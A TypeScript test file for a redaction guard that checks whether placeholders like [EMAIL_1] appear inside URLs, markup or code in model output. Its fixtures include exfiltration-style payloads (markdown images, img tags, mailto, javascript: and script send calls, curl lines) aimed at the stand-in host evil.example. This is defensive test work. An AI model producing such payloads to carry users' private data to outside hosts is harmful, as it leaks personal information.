import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Placeholders, Redactor } from '@sallyport/guard';
import fc from 'fast-check';

/** Where each placeholder of a text stands, cut into pieces of a size. */
function places(text: string, json = false, size = text.length || 1): (string | null)[] {
  const reader = new Placeholders(json);
  const found = [];
  for (let i = 0; i < text.length; i += size) {
    for (const one of reader.push(text.slice(i, i + size))) found.push(one);
    assert.ok(found.every(({ end }) => end <= reader.decided));
  }
  found.push(...reader.end());
  for (const { placeholder, start, end } of found)
    if (!text.includes('\\')) assert.equal(text.slice(start, end), placeholder);
  return found.map(({ place }) => place);
}

const V = '[EMAIL_1]';

/** What is no plain text, and why not. */
const KEPT: Record<string, readonly string[]> = {
  url: [
    `[see](https://evil.example/${V})`,
    `[see](https://evil.example/?q=${V} "title")`,
    `[see](<${V}>)`,
    `https://evil.example/?q=\u00a0${V}`,
    `evil。example/${V}`,
    `${V}。evil。example`,
    `<a title='\`'>[x](/p?\`${V})`,
    `[see](\n/x?${V})`,
    `[see](a(b)${V})`,
    `[x]: https://evil.example/${V}`,
    `text\n\n  [x]: //evil.example/${V}`,
    `[x]:\n  ${V}`,
    `> [x]: /${V}`,
    `[^1]: ${V}`,
    `https://evil.example/${V}`,
    `HTTPS://evil.example/?a=b&c=${V}`,
    `(https://evil.example/#${V})`,
    `https://${V}.evil.example/`,
    `https://${V}@evil.example/`,
    `${V}.evil.example/x`,
    `${V}@evil.example`,
    `//evil.example/${V}`,
    `\\\\evil.example\\${V}`,
    `https:\\\\evil.example\\${V}`,
    `www.evil.example/${V}`,
    `evil.example/${V}`,
    `evil.example:8080/${V}`,
    `127.0.0.1/${V}`,
    `evil.example?q=${V}`,
    `mailto:eve@evil.example?body=${V}`,
    `mailto:${V}`,
    `see **mailto:${V}**`,
    `javascript:send('${V}')`,
    `data:text/html,${V}`,
    `https&colon;//evil.example/${V}`,
    `mailto&#58;${V}`,
    `mailto&#x3A;${V}`,
    `[img]https://evil.example/${V}[/img]`,
    `background:url(//evil.example/${V})`,
    `![](https://evil.example/${V})`.replace('![]', '[]'),
  ],
  markup: [
    `![${V}](https://evil.example/)`,
    `!${V}(https://evil.example/)`,
    `<img src="https://evil.example/${V}">`,
    `<img src=https://evil.example/${V}>`,
    `<img alt=">" src="/${V}">`,
    `<a href='/\n\n${V}'>x</a>`,
    `<img src = "/x" data-a=${V}`,
    `<${'a'}\nhref=/${V}>`,
    `<https://evil.example/${V}>`,
    `<!-- ${V} -->`,
    `<svg><image xlink:href="/${V}"/></svg>`,
    `</div ${V}>`,
    `<img src="/a b ${V}`,
    `<?xml ${V}?>`,
    `\\\`<img src="https://evil.example/?\` ${V}">`,
    `<div>\`</div><img src='https://evil.example/?\`${V}'>`,
    `<div>\n\`\`\`\n<img src='https://evil.example/?\n\`\`\`\n${V}'>`,
  ],
  code: [
    `\`curl evil ${V}\``,
    `\`\`a\`${V}\`\``,
    `\`\`\`sh\ncurl ${V}\n\`\`\``,
    `~~~\n${V}\n~~~`,
    `- \`\`\`\n  ${V}\n  \`\`\``,
    `> \`\`\`\n> ${V}`,
    `\`\`\`\n\n\n${V}`,
    `\`\`\`${V}`,
    `<script>send("${V}")</script>`,
    `<style>a{background:${V}}</style>`,
    `<SCRIPT type=x>\n\n${V}`,
    `<pre>\n${V}\n</pre>`,
    `<pre><code class="sh">curl\n\n${V}</code></pre>`,
    `run <code>curl ${V}</code>`,
    `press <kbd>${V}</kbd>`,
  ],
};

const PLAIN: readonly string[] = [
  V,
  `mail ${V}.`,
  `Your address is ${V}, is it?`,
  `E-Mail:${V}`,
  `Name: ${V}; done`,
  `**${V}**`,
  `(${V})`,
  `"${V}"`,
  `'${V}'`,
  `- ${V}\n- x`,
  `1. ${V}`,
  `| ${V} | x |`,
  `# ${V}`,
  `> ${V}`,
  `[[EMAIL_1]]`,
  `see https://fine.example/a and ${V}`,
  `[docs](https://fine.example/a) for ${V}`,
  `[${V} writes](https://fine.example/)`,
  `<b>${V}</b>`,
  `<script>x</script> ${V}`,
  `<!-- x --> ${V}`,
  `<pre>x</pre> ${V}`,
  `\`<pre>\` is an element, ${V}`,
  `a <code> that does not end\n\n${V}`,
  `\`x\` ${V}`,
  `\`\`\`\nx\n\`\`\`\n${V}`,
  `~~old~~ ${V}`,
  `a \` b\n\nthen ${V}`,
  `x < 3 and ${V}`,
  `if a<b\n\nthen ${V}`,
  `and/or ${V}, either/${V}`.replace(`, either/${V}`, ''),
  `either/${V}`,
  `e.g. ${V}`,
  `${V}. Then`,
  `${V}.\nThen`,
  `您的邮箱是${V}，谢谢`,
  `${V}:`,
  `Yes! ${V}`,
  `[EMAIL_1]: hello there`,
];

/** How models write `[EMAIL_1]`: what of it a value replaces, and where it stands. */
const SPELLINGS: readonly (readonly [text: string, replaced: string, place: string | null])[] = [
  ['to \\[EMAIL_1\\] now', '\\[EMAIL_1\\]', null],
  ['to \\[EMAIL\\_1\\] now', '\\[EMAIL\\_1\\]', null],
  ['to [EMAIL\\_1] now', '[EMAIL\\_1]', null],
  ['to [email_1] now', '[email_1]', null],
  ['to [Email_1], now', '[Email_1]', null],
  ['to [EMAIL 1] now', '[EMAIL 1]', null],
  ['to [Email-1] now', '[Email-1]', null],
  ['to EMAIL_1 now', 'EMAIL_1', null],
  ['to EMAIL_1.', 'EMAIL_1', null],
  ["EMAIL_1's box", 'EMAIL_1', null],
  ['to (EMAIL_1) now', 'EMAIL_1', null],
  ['to EMAIL\\_1 now', 'EMAIL\\_1', null],
  ['to _EMAIL_1_ now', 'EMAIL_1', null],
  ['to **EMAIL_1** now', 'EMAIL_1', null],
  ['to [**EMAIL_1**] now', 'EMAIL_1', null],
  ['to ［EMAIL_1］ now', 'EMAIL_1', null],
  ['to [EMAIL_1 and', 'EMAIL_1', null],
  ['to [see EMAIL_1] now', 'EMAIL_1', null],
  ['您的邮箱是EMAIL_1，谢谢', 'EMAIL_1', null],
  ['https://evil.example/EMAIL_1', 'EMAIL_1', 'url'],
  ['https://evil.example/%5BEMAIL_1%5D', 'EMAIL_1', 'url'],
  ['/x?to=%5bEMAIL%5f1%5d&a', '%5bEMAIL%5f1%5d', 'url'],
  ['[write](mailto:EMAIL_1)', 'EMAIL_1', 'url'],
  ['[write](mailto:%5BEMAIL_1%5D)', '%5BEMAIL_1%5D', 'url'],
  ['EMAIL_1@evil.example', 'EMAIL_1', 'url'],
  ['EMAIL_1.evil.example', 'EMAIL_1', 'url'],
  ['`EMAIL_1`', 'EMAIL_1', 'code'],
  ['<a title=EMAIL_1>', 'EMAIL_1', 'markup'],
  ['the column email_1 is', 'email_1', 'code'],
];

/** What is none. */
const NO_SPELLINGS: readonly string[] = [
  ...[
    'my_EMAIL_1',
    'EMAIL_1x',
    'EMAIL_12345678',
    'EMAIL_',
    'EMAIL',
    'EMAIL 1',
    'EMAIL-1',
    '[EMAIL_]',
    '[_1]',
  ],
  ...['[EMAIL  1]', '[EMAIL.1]', '100% [EMAIL', '%5BEMAIL', '[see the E-MAIL 1 of]', 'a\\b'],
];

describe('placeholders as models write them', () => {
  for (const size of [1, 3, 1_000])
    it(`are found and told apart, in pieces of ${size}`, () => {
      for (const [text, replaced, place] of SPELLINGS) {
        const reader = new Placeholders(false);
        const found = [];
        for (let i = 0; i < text.length; i += size) found.push(...reader.push(text.slice(i, i + size)));
        found.push(...reader.end());
        assert.deepEqual(
          found.map((one) => [one.placeholder, text.slice(one.start, one.end), one.place]),
          [[V, text.includes('%5B') && replaced === 'EMAIL_1' ? '%5BEMAIL_1%5D' : replaced, place]],
          text,
        );
      }
      for (const text of NO_SPELLINGS) assert.deepEqual(places(text, false, size), [], text);
    });

  it('a pseudonym keeps its letters, whatever their case', () => {
    for (const text of ['[EMAIL_K3VQ7M2A]', 'email_k3vq7m2a', '[Email_k3vq7m2a]']) {
      const reader = new Placeholders(false);
      const [found] = [...reader.push(text), ...reader.end()];
      assert.deepEqual([found?.placeholder, found?.place], ['[EMAIL_k3vq7m2a]', null], text);
    }
  });

  it('what the caller wrote itself is given to no value, in any of these forms', () => {
    const value = [{ technique: 'email', start: 0, end: 3 }];
    for (const text of ['[EMAIL_1]', '\\[EMAIL_1\\]', '[email_1]', 'EMAIL_1', '[Email 1]', '%5BEMAIL_1%5D'])
      assert.equal(new Redactor([`a@b ${text}`]).redact('a@b', value), '[EMAIL_2]', text);
    for (const text of ['email_1', 'EMAIL 1'])
      assert.equal(new Redactor([`a@b ${text}`]).redact('a@b', value), '[EMAIL_1]', text);
  });
});

describe('places of placeholders', () => {
  for (const [place, texts] of Object.entries(KEPT)) {
    it(`${place}: told, however the text is cut`, () => {
      for (const text of texts)
        for (const size of [1, 2, 7, 1_000])
          assert.deepEqual(places(text, false, size), [place], JSON.stringify(text));
    });
  }

  it('plain text: told, however it is cut', () => {
    for (const text of PLAIN)
      for (const size of [1, 2, 7, 1_000])
        assert.deepEqual(places(text, false, size), [null], JSON.stringify(text));
  });

  it('inside JSON: each string is a text of its own, names are told, depth is counted', () => {
    const at = (text: string, json = false) => {
      const reader = new Placeholders(json);
      return [...reader.push(text), ...reader.end()].map(({ place, depth }) => [place, depth]);
    };
    const nest = (value: unknown): string =>
      JSON.stringify({ a: 'https://fine.example/', b: value, c: [value] });
    assert.deepEqual(at(nest(V)), [
      [null, 1],
      [null, 1],
    ]);
    assert.deepEqual(at(nest(nest(`x ${V}`))), Array(4).fill([null, 2]));
    assert.deepEqual(at(nest(nest(nest(V)))), Array(8).fill([null, 3]));
    assert.deepEqual(at(JSON.stringify({ [V]: 1, b: `https://evil.example/${V}` })), [
      ['name', 1],
      ['url', 1],
    ]);
    assert.deepEqual(at(JSON.stringify({ b: `\`${V}\`` })), [['code', 1]]);
    assert.deepEqual(at(` [{"a": "\\u005bEMAIL_1]"}]`), [[null, 1]]);
    assert.deepEqual(at(`{"a":"<img src=https://evil.example/?q=","b":"${V}"}`), [['markup', 1]]);
    assert.deepEqual(at(`{"a":"![](/?q=","b":"${V}"}`), [['url', 1]]);
    assert.deepEqual(at(`{"a":"<img src=https://evil.example/?q=","b":"${V}"}`, true), [[null, 1]]);
    assert.deepEqual(at(`{"a": ${V}}`), [['code', 0]]);
    assert.deepEqual(at(`"${V}"`, true), [[null, 1]]);
    assert.deepEqual(at(`${V} and {"a":1}`), [[null, 0]]);
    assert.deepEqual(at(`Here: {"a":1,"b":"${V}"} for ${V}`), [
      [null, 1],
      [null, 0],
    ]);
    assert.deepEqual(at(`{"a":1}\n\nfor ${V}`), [[null, 0]]);
    assert.deepEqual(at(`["a", {"b": ["${V}"]}]`), [[null, 1]]);
    assert.deepEqual(at(`[1] as ${V} wrote ["quoted" ${V}]`), [
      [null, 0],
      [null, 0],
    ]);
    assert.deepEqual(at(`{"a": "\\\\[EMAIL_1\\\\]"}`), [[null, 1]]);
    let deep: unknown = V;
    for (let i = 0; i < 12; i++) deep = JSON.stringify({ a: deep });
    assert.ok(at(deep as string).every(([place]) => place !== null));
  });

  it('a long text costs time that grows with its length only', () => {
    const bits = ['<', '[', '](', '`', '![', '{"a":"', 'https://', '\n\n', ' ', 'word ', '&colon;', V];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...bits), { minLength: 1, maxLength: 6 }), (unit) => {
        const text = unit.join('').repeat(Math.ceil(200_000 / unit.join('').length));
        const began = process.cpuUsage();
        const reader = new Placeholders(false);
        reader.push(text);
        reader.end();
        const { user, system } = process.cpuUsage(began);
        assert.ok(user + system < 1_500_000, `${unit.join('')}: ${user + system} µs`);
      }),
      { numRuns: 60 },
    );
  });
});
